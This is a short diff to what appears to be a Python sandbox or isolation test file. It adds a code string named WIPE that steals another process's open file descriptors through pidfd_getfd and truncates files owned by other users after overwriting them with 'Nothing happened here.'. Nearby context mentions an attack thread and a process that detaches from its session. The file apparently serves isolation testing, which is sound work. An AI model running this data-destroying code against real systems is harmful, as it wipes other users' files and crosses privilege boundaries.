@@ -159,6 +159,26 @@ attack = threading.Thread(target=take_all, args=(uid, 25), daemon=True)
 attack.start()
 """
 
+# Takes over what its server holds open of others' files, and empties it; prints their names.
+# Needs server, its number.
+WIPE = """
+import ctypes, json, os
+getfd = 438  # pidfd_getfd: its number in the system calls of all common machines
+found = []
+for number in (server, os.getpid()):
+    for name in os.listdir(f"/proc/{number}/fd"):
+        try:
+            path = os.readlink(f"/proc/{number}/fd/{name}")
+            taken = ctypes.CDLL(None).syscall(getfd, os.pidfd_open(number), int(name), 0)
+            if os.path.isabs(path) and os.fstat(taken).st_uid != os.getuid():
+                os.write(taken, b"Nothing happened here.\\n")
+                os.ftruncate(taken, 0)
+                found.append(path)
+        except OSError:
+            pass
+print(json.dumps(found))
+"""
+
 # Starts a process that leaves its session and its group, and prints its number.
 STAY_BEHIND = """
 import json, subprocess
